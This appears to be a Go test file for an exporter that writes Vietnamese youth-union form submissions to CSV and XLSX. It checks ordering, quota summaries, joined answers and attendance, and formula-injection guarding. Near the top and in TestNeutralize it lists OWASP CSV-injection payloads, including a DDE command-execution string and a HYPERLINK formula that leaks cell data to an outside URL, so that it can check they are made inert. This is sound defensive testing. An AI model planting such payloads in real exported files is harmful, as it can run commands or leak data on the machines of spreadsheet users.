package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"loa/content"
	"loa/functions/export"
	"loa/functions/forms"
	"loa/functions/report"
	"loa/functions/s3test"
	"loa/functions/store"
	"loa/functions/vntext"
	"loa/site"
)

// The OWASP CSV-injection payloads every export must make inert.
var payloads = []string{
	"=1+1", "+SUM(A1)", "-2", "@cmd", "\t=x", "\r=x", "\n=x",
	`=HYPERLINK("http://example.com/?q="&A1,"Bấm vào đây")`,
	"=cmd|' /C calc'!A0",
}

type env struct {
	t    *testing.T
	fx   *s3test.Fixture
	gets *countingAPI // the store's client, counting submissions read
	tmp  string       // the exporter's TempDir
	st   *store.Store
	ex   *export.Exporter
	reg  *forms.Registry

	mu  sync.Mutex
	now time.Time // the store's clock: each save may set it
}

var exportDay = time.Date(2023, 4, 20, 8, 30, 0, 0, vntext.Location)

func newEnv(t *testing.T, tweak func(*export.Config)) *env {
	t.Helper()
	reg, err := forms.Load(content.FS, site.FS())
	if err != nil {
		t.Fatal(err)
	}
	e := &env{t: t, reg: reg, now: time.Date(2023, 4, 5, 9, 0, 0, 0, time.UTC), tmp: t.TempDir()}
	e.gets = &countingAPI{clock: &fakeClock{at: time.Now()}}
	e.fx = s3test.New(t, s3test.Options{
		Config: store.Config{Prefix: "loa/", Now: e.clock},
		Wrap:   func(api store.API) store.API { e.gets.API = api; return e.gets },
	})
	e.st = e.fx.Store
	cfg := export.Config{
		Store: e.st, TempDir: e.tmp,
		Now:       func() time.Time { return exportDay },
		Stopwatch: e.gets.clock.now,
	}
	if tweak != nil {
		tweak(&cfg)
	}
	if e.ex, err = export.New(cfg); err != nil {
		t.Fatal(err)
	}
	return e
}

func (e *env) clock() time.Time {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.now
}

// save stores values as a submission of form accepted at t, bypassing
// validation so that any value (a payload with a leading tab) can be stored.
func (e *env) save(form string, t time.Time, values map[string]string) store.Receipt {
	e.t.Helper()
	f := e.reg.Form(form)
	vals := map[string]string{}
	for _, fl := range f.Fields {
		vals[fl.Name] = values[fl.Name]
	}
	e.mu.Lock()
	e.now = t
	e.mu.Unlock()
	rc, err := e.st.Save(context.Background(), &forms.Submission{Form: f, Values: vals})
	if err != nil {
		e.t.Fatalf("save %s: %v", form, err)
	}
	return rc
}

type want struct {
	id   string
	time time.Time
	vals map[string]string
}

// seedQuestions stores n questions whose times are shuffled against the
// order of their keys, with every payload in a name or a question, a
// phone on some, and two rows at the same instant.
func (e *env) seedQuestions(n int) []want {
	f := e.reg.Form("cau-hoi")
	base := time.Date(2023, 4, 2, 7, 0, 0, 0, vntext.Location)
	var all []want
	for i := range n {
		// A permutation of 0..n-1, so saving order is not time order.
		k := (i * 7) % n
		t := base.Add(time.Duration(k) * 37 * time.Minute)
		if i == 1 {
			t = all[0].time // a tie, broken by id
		}
		v := map[string]string{
			"ho_ten":   fmt.Sprintf("Nguyễn Thị Mai %d", i),
			"nam_sinh": strconv.Itoa(1990 + i%10),
			"chi_doan": f.ChiDoan[i%len(f.ChiDoan)],
			"email":    fmt.Sprintf("mai%d@example.vn", i),
			"linh_vuc": f.Topics[i%len(f.Topics)],
			"noi_dung": fmt.Sprintf("Câu hỏi số %d về việc làm,\n\"chuyển đổi số\"; ổn định?", i),
			"dong_y":   "2023-04-01",
		}
		if i%3 == 0 {
			v["dien_thoai"] = "0912345678"
		}
		if i < len(payloads) {
			v["ho_ten"] = payloads[i]
			v["noi_dung"] = payloads[len(payloads)-1-i]
		}
		rc := e.save("cau-hoi", t, v)
		all = append(all, want{id: rc.ID, time: t, vals: v})
	}
	slices.SortFunc(all, func(a, b want) int {
		if c := a.time.Compare(b.time); c != 0 {
			return c
		}
		return strings.Compare(a.id, b.id)
	})
	return all
}

func (e *env) write(form string, format report.Format) []byte {
	e.t.Helper()
	var b bytes.Buffer
	if _, err := e.ex.Write(context.Background(), e.reg.Form(form), format, &b, nil); err != nil {
		e.t.Fatalf("export %s %s: %v", form, format, err)
	}
	return b.Bytes()
}

func parseCSV(t *testing.T, data []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(data, []byte("\xef\xbb\xbf")) {
		t.Fatalf("CSV does not start with a UTF-8 BOM: %q", data[:min(len(data), 20)])
	}
	r := csv.NewReader(bytes.NewReader(data[3:]))
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v", err)
	}
	return recs
}

func readXLSX(t *testing.T, data []byte, sheet string) (*excelize.File, [][]string) {
	t.Helper()
	x, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("XLSX does not open: %v", err)
	}
	t.Cleanup(func() { x.Close() })
	rows, err := x.GetRows(sheet)
	if err != nil {
		t.Fatalf("XLSX sheet %q: %v", sheet, err)
	}
	return x, rows
}

// inert reports whether a cell cannot start a formula.
func inert(s string) bool {
	return s == "" || !strings.ContainsRune("=+-@\t\r\n", rune(s[0]))
}

func TestExportCSVAndXLSX(t *testing.T) {
	// Tiny pages, runs and concurrency: every page boundary, spill and merge is walked.
	e := newEnv(t, func(c *export.Config) { c.PageSize = 7; c.RunBytes = 2 << 10; c.Concurrency = 3 })
	all := e.seedQuestions(61)
	f := e.reg.Form("cau-hoi")

	recs := parseCSV(t, e.write("cau-hoi", report.CSV))
	wantHeader := []string{"Mã", "Thời điểm gửi", "Họ và tên", "Năm sinh", "Chi đoàn", "Số điện thoại", "Email", "Lĩnh vực", "Nội dung câu hỏi", "Phiên bản thông báo đồng ý",
		"Phiên bản đồng ý công bố", "Trạng thái", "Câu trả lời", "Người trả lời", "Thời điểm trả lời"}
	if !slices.Equal(recs[0], wantHeader) {
		t.Fatalf("header\n got %q\nwant %q", recs[0], wantHeader)
	}
	if len(recs)-1 != len(all) {
		t.Fatalf("%d rows, want %d", len(recs)-1, len(all))
	}
	for i, w := range all {
		row := recs[i+1]
		if row[0] != w.id {
			t.Fatalf("row %d: id %s, want %s (order by time, then id)", i+1, row[0], w.id)
		}
		if got := w.time.In(vntext.Location).Format(export.TimeLayout); row[1] != got {
			t.Errorf("row %d: time %q, want %q", i+1, row[1], got)
		}
		for j, fl := range f.Fields {
			v := strings.ReplaceAll(strings.ReplaceAll(w.vals[fl.Name], "\r\n", "\n"), "\r", "\n")
			if !inert(v) {
				v = "'" + v
			}
			if row[j+2] != v {
				t.Errorf("row %d, %s: %q, want %q", i+1, fl.Label, row[j+2], v)
			}
		}
	}
	phones := 0
	for _, row := range recs[1:] {
		for j, cell := range row {
			if !inert(cell) {
				t.Errorf("CSV cell %q (column %s) can start a formula", cell, recs[0][j])
			}
		}
		if row[5] == "0912345678" {
			phones++
		}
	}
	if phones == 0 {
		t.Error("no phone 0912345678 kept as written")
	}

	data := e.write("cau-hoi", report.XLSX)
	x, rows := readXLSX(t, data, export.SheetRows)
	if len(rows) != len(recs) {
		t.Fatalf("XLSX has %d rows, CSV %d", len(rows), len(recs))
	}
	// The XLSX shows what was typed: the CSV's cells without the quote
	// that guards a formula-like value (a text cell is never a formula).
	guarded := 0
	for i := range recs {
		got := append(rows[i], make([]string, len(recs[i])-len(rows[i]))...) // GetRows drops trailing empty cells
		want := slices.Clone(recs[i])
		for j, c := range want {
			if rest, ok := strings.CutPrefix(c, "'"); ok && !inert(rest) {
				want[j] = rest
				guarded++
			}
		}
		if !slices.Equal(got, want) {
			t.Fatalf("XLSX row %d:\n xlsx %q\n want %q (the CSV's %q without guards)", i+1, rows[i], want, recs[i])
		}
	}
	if guarded == 0 {
		t.Fatal("no formula-like value among the test rows: the guard is not tested")
	}
	for i := range rows {
		for j := range rows[i] {
			cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if fo, _ := x.GetCellFormula(export.SheetRows, cell); fo != "" {
				t.Errorf("XLSX %s holds a formula %q", cell, fo)
			}
		}
	}
	// Every value (phones, years, texts): text cells with the text number
	// format "@", so that Excel keeps 0912345678 and "=1+1" as typed.
	for i, row := range rows[1:] {
		for j := 2; j < len(row); j++ {
			if row[j] == "" {
				continue
			}
			cell, _ := excelize.CoordinatesToCellName(j+1, i+2)
			typ, _ := x.GetCellType(export.SheetRows, cell)
			if typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
				t.Errorf("%s (%q) is of type %v, want text", cell, row[j], typ)
			}
			sid, _ := x.GetCellStyle(export.SheetRows, cell)
			if st, _ := x.GetStyle(sid); st == nil || st.NumFmt != 49 {
				t.Errorf("%s (%q) has no text format", cell, row[j])
			}
		}
	}
	panes, err := x.GetPanes(export.SheetRows)
	if err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("header row not frozen: %+v %v", panes, err)
	}
	sid, _ := x.GetCellStyle(export.SheetRows, "A1")
	if st, _ := x.GetStyle(sid); st == nil || st.Font == nil || !st.Font.Bold {
		t.Error("header not bold")
	}
	if w, _ := x.GetColWidth(export.SheetRows, "I"); w < 40 {
		t.Errorf("question column width %v, want a wide column", w)
	}
}

func TestEmptyExport(t *testing.T) {
	e := newEnv(t, nil)
	recs := parseCSV(t, e.write("cau-hoi", report.CSV))
	if len(recs) != 1 || recs[0][0] != "Mã" {
		t.Fatalf("empty export: %q", recs)
	}
	_, rows := readXLSX(t, e.write("cau-hoi", report.XLSX), export.SheetRows)
	if len(rows) != 1 {
		t.Fatalf("empty XLSX: %q", rows)
	}
}

func TestDelegatesGroupedWithSummary(t *testing.T) {
	e := newEnv(t, func(c *export.Config) { c.PageSize = 2 })
	f := e.reg.Form("dai-bieu")
	base := time.Date(2023, 4, 3, 8, 0, 0, 0, vntext.Location)
	plan := []int{2, 0, 2, 0, 0, 4, 0, 0, 2} // chi đoàn index per registration, in time order
	var ids []string
	for i, g := range plan {
		rc := e.save("dai-bieu", base.Add(time.Duration(i)*time.Hour), map[string]string{
			"chi_doan": f.ChiDoan[g], "ho_ten": fmt.Sprintf("Trần Văn %c", 'A'+i), "chuc_vu": "Bí thư",
			"nam_sinh": "1995", "dien_thoai": "0987654321", "dong_y": "2023-04-01",
		})
		ids = append(ids, rc.ID)
	}
	// Chi đoàn 0 is full: a sixth is refused.
	_, err := e.st.Save(context.Background(), &forms.Submission{Form: f, Values: map[string]string{
		"chi_doan": f.ChiDoan[0], "ho_ten": "Người thứ sáu", "chuc_vu": "Đoàn viên", "nam_sinh": "1999",
		"dien_thoai": "0911111111", "dong_y": "2023-04-01",
	}})
	var qe *store.QuotaError
	if !errors.As(err, &qe) {
		t.Fatalf("sixth delegate: %v, want a quota error", err)
	}

	recs := parseCSV(t, e.write("dai-bieu", report.CSV))
	var groups, got []string
	for _, r := range recs[1:] {
		groups = append(groups, r[2])
		got = append(got, r[0])
	}
	// By chi đoàn in the list's order, then by time.
	wantOrder := []string{ids[1], ids[3], ids[4], ids[6], ids[7], ids[0], ids[2], ids[8], ids[5]}
	if !slices.Equal(got, wantOrder) {
		t.Fatalf("order %v (groups %q), want %v", got, groups, wantOrder)
	}

	sum := parseCSV(t, e.write("dai-bieu", report.Summary))
	if !slices.Equal(sum[0], []string{"Chi đoàn", "Đã đăng ký", "Số lượng tối đa", "Còn thiếu", "Ghi chú"}) {
		t.Fatalf("summary header %q", sum[0])
	}
	if len(sum)-1 != len(f.ChiDoan) {
		t.Fatalf("summary has %d chi đoàn, want %d", len(sum)-1, len(f.ChiDoan))
	}
	wantSum := map[string][]string{
		f.ChiDoan[0]: {"5", "5", "0", "Đủ"},
		f.ChiDoan[2]: {"3", "5", "2", "Còn thiếu"},
		f.ChiDoan[4]: {"1", "5", "4", "Còn thiếu"},
		f.ChiDoan[1]: {"0", "5", "5", "Chưa có đại biểu"},
	}
	for _, r := range sum[1:] {
		if w, ok := wantSum[r[0]]; ok && !slices.Equal(r[1:], w) {
			t.Errorf("summary %s: %q, want %q", r[0], r[1:], w)
		}
	}

	x, rows := readXLSX(t, e.write("dai-bieu", report.XLSX), export.SheetRows)
	if len(rows) != len(recs) || rows[1][0] != ids[1] {
		t.Fatalf("XLSX rows %d, first %q", len(rows), rows[1])
	}
	srows, err := x.GetRows(export.SheetSummary)
	if err != nil {
		t.Fatal(err)
	}
	if srows[1][0] != f.ChiDoan[0] || srows[1][1] != "5" || srows[2][4] != "Chưa có đại biểu" {
		t.Errorf("summary sheet: %q", srows[:3])
	}
	joined := fmt.Sprint(srows)
	if !strings.Contains(joined, "Chi đoàn chưa có đại biểu: 5") || !strings.Contains(joined, f.ChiDoan[7]) {
		t.Errorf("summary sheet does not list the chi đoàn without delegates: %s", joined)
	}
	if _, err := e.ex.Write(context.Background(), e.reg.Form("cau-hoi"), report.Summary, io.Discard, nil); !errors.Is(err, export.ErrFormat) {
		t.Errorf("summary of a form without quota: %v", err)
	}
}

func TestNeutralize(t *testing.T) {
	for _, c := range []struct {
		in    string
		phone bool
		want  string
	}{
		{"=1+1", false, "'=1+1"},
		{"+SUM(A1)", false, "'+SUM(A1)"},
		{"-2", false, "'-2"},
		{"@cmd", false, "'@cmd"},
		{"\t=x", false, "'\t=x"},
		{"\r=x", false, "'\r=x"},
		{"\n=x", false, "'\n=x"},
		{"0912345678", true, "0912345678"},
		{"+84912345678", true, "+84912345678"},
		{"+84 912 345 678", true, "+84 912 345 678"},
		{"+84912345678", false, "'+84912345678"},
		{"+1+cmd|x", true, "'+1+cmd|x"},
		{"Nguyễn Văn A", false, "Nguyễn Văn A"},
		{"", false, ""},
	} {
		if got := export.Neutralize(c.in, c.phone); got != c.want {
			t.Errorf("Neutralize(%q, %v) = %q, want %q", c.in, c.phone, got, c.want)
		}
	}
}

func TestExpiryBound(t *testing.T) {
	e := newEnv(t, nil)
	_, err := export.New(export.Config{Store: e.st, Expiry: 16 * time.Minute})
	if err == nil {
		t.Error("a link expiry over 15 minutes was accepted")
	}
}

// The answer columns come from the answers at export time: a changed
// answer shows in the next file, whatever the snapshot holds.
func TestExportJoinsAnswers(t *testing.T) {
	e := newEnv(t, nil)
	ctx := context.Background()
	rc := e.save("cau-hoi", e.now, map[string]string{"ho_ten": "An", "noi_dung": "Câu hỏi?", "linh_vuc": "Khác"})
	cells := func() []string {
		t.Helper()
		recs := parseCSV(t, e.write("cau-hoi", report.CSV))
		if len(recs) != 2 {
			t.Fatalf("%d rows", len(recs))
		}
		return recs[1][len(recs[1])-4:]
	}
	if got := cells(); got[0] != "Đã nhận" || got[1] != "" {
		t.Errorf("before any answer: %q", got)
	}
	found, err := e.st.FindByID(ctx, e.reg.Form("cau-hoi"), rc.ID)
	if err != nil {
		t.Fatal(err)
	}
	for v, text := range []string{"Trả lời thứ nhất", "Trả lời đã sửa"} {
		if _, err := e.st.SaveAnswer(ctx, e.reg.Form("cau-hoi"), found, v, store.Answer{Status: store.StatusAnswered, Text: text, By: "Chị Lan"}); err != nil {
			t.Fatal(err)
		}
		if got := cells(); got[0] != "Đã trả lời" || got[1] != text || got[2] != "Chị Lan" || got[3] == "" {
			t.Errorf("after version %d: %q", v+1, got)
		}
	}
	_, rows := readXLSX(t, e.write("cau-hoi", report.XLSX), export.SheetRows)
	if h := rows[0]; h[len(h)-3] != "Câu trả lời" || rows[1][len(h)-3] != "Trả lời đã sửa" {
		t.Errorf("XLSX answer column: %q / %q", h, rows[1])
	}
}

// TestExportJoinsAttendance: the delegates' export ends with each one's
// check-in code, as printed on the invitation, and when they came; blank
// for who has not.
func TestExportJoinsAttendance(t *testing.T) {
	e := newEnv(t, nil)
	ctx := context.Background()
	f := e.reg.Form("dai-bieu")
	var ids []string
	for i, name := range []string{"Trần Văn A", "Lê Thị B"} {
		rc := e.save("dai-bieu", e.now.Add(time.Duration(i)*time.Minute), map[string]string{
			"chi_doan": f.ChiDoan[0], "ho_ten": name, "chuc_vu": "Bí thư", "nam_sinh": "1995",
			"dien_thoai": "0987654321", "dong_y": "2023-04-01",
		})
		ids = append(ids, rc.ID)
	}
	came := time.Date(2023, 4, 27, 7, 45, 0, 0, vntext.Location)
	code := e.st.CheckinCode(f.ID, ids[1])
	if _, _, err := e.st.CheckIn(ctx, store.Checkin{Code: code, Form: f.ID, ID: ids[1], At: came}); err != nil {
		t.Fatal(err)
	}
	recs := parseCSV(t, e.write("dai-bieu", report.CSV))
	h := recs[0]
	if h[len(h)-2] != "Mã điểm danh" || h[len(h)-1] != "Đã đến lúc" {
		t.Fatalf("headers end %q", h[len(h)-2:])
	}
	byID := map[string][]string{}
	for _, r := range recs[1:] {
		byID[r[0]] = r[len(r)-2:]
	}
	if got := byID[ids[1]]; got[0] != code || got[1] == "" {
		t.Errorf("who came: %q, want %s and a time", got, code)
	}
	if got := byID[ids[0]]; got[0] != e.st.CheckinCode(f.ID, ids[0]) || got[1] != "" {
		t.Errorf("who did not come: %q", got)
	}
}
